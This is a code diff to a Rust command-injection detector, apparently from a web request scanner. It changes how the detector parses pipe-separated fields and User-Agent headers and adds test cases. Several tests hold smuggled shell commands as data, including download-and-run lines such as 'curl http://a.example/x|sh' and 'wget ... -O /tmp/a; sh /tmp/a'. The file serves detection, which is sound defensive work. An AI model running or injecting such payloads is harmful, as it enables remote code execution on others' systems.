@@ -9,6 +9,7 @@ use super::pipeline::is_query;
 use super::plain::is_plain;
 use super::prefilter::{is_agent, Hints, Marks};
 use super::prose::{lists_words, without_code};
+use super::records::without_bars;
 use super::words::Words;
 use super::{Family, Part};
 use crate::decode::{kind, percent, Value};
@@ -68,8 +69,10 @@ impl Detector for CommandInjection {
         } else if value.part != Part::Query && is_told(value.bytes) {
             report.doubt(&["command."], TOLD);
         }
-        let prose = without_code(value.part, value.bytes);
-        let text = prose.as_deref().unwrap_or(value.bytes);
+        let records = without_bars(value.bytes);
+        let text = records.as_deref().unwrap_or(value.bytes);
+        let prose = without_code(value.part, text);
+        let text = prose.as_deref().unwrap_or(text);
         PATTERNS.judge(value, text, report);
         if let Some(plain) = unquote(text) {
             PATTERNS.judge(value, &plain, report);
@@ -78,12 +81,22 @@ impl Detector for CommandInjection {
 }
 
 /// Tells a user agent of the usual kind: who writes one writes semicolons and programs' names too, but
-/// no folders.
+/// no folders, and nothing that a program would be given.
 fn names_clients(agent: &[u8]) -> bool {
     const FOLDERS: [&[u8]; 4] = [b"/tmp/", b"/etc/", b"/dev/", b"/bin/"];
+    let mut pieces = agent.split(|b| matches!(b, b';' | b'&')).skip(1);
     memchr::memchr3(b'{', b'|', b'`', agent).is_none()
         && memmem::find(agent, b"$(").is_none()
         && !FOLDERS.iter().any(|f| memmem::find(agent, f).is_some())
+        && !pieces.any(is_given)
+}
+
+/// Tells a name in small letters that is given an option or an address: `curl -o x`.
+fn is_given(piece: &[u8]) -> bool {
+    let piece = piece.trim_ascii_start();
+    let name = piece.iter().take_while(|b| b.is_ascii_lowercase()).count();
+    let given = piece[name..].strip_prefix(b" ").unwrap_or_default();
+    name > 0 && (given.starts_with(b"-") || given.starts_with(b"http"))
 }
 
 /// Tells a script of a page: all that is substituted is one of its own objects.
@@ -249,6 +262,12 @@ mod tests {
             "node > /tmp/x",
             "A1|B|C|D|E|F|G|id /x",
             "A1|B|C|D|E|F|G;id|",
+            "A1|B|C|D|E|F|curl a.example/x",
+            "A1|B|C|D|E|F\nwget a.example -O x",
+            "A1|B|C|D|E|F&&wget a.example/x",
+            "8.8.8.8&lt;curl http://a.example/x",
+            "8.8.8.8&gt;id",
+            "x&copy;whoami",
             "&lt;p&gt;x&lt;/p&gt;;id /x",
             "up{job=~\"a|b\"};id /x",
             "up{job=~\"(a|b)\"};id /x",
@@ -307,6 +326,8 @@ mod tests {
             ("note", "/bin/bash -c id"),
             ("note", "/usr/sbin/x;id"),
             ("shell", "x; whoami"),
+            ("host", "#!/\ncurl http://a.example/x|sh"),
+            ("host", "#!/bin/x;curl http://a.example/x|sh"),
         ] {
             assert!(json(name, text) >= 0.5, "{text}");
         }
@@ -317,6 +338,8 @@ mod tests {
         let agent = |text: &str| score_at(&CommandInjection, Part::Header, b"User-Agent", text);
         assert!(agent("x; wget http://a.example/a -O /tmp/a; sh /tmp/a") >= 0.5);
         assert!(agent("a$(sleep 5)") >= 0.5);
+        assert!(agent("x;curl http://a.example/x -o y&&sh y") >= 0.5);
+        assert!(agent("x; wget -O y a.example") >= 0.5);
         assert!(agent("curl/8.5.0; php; node") < 0.5);
     }
 
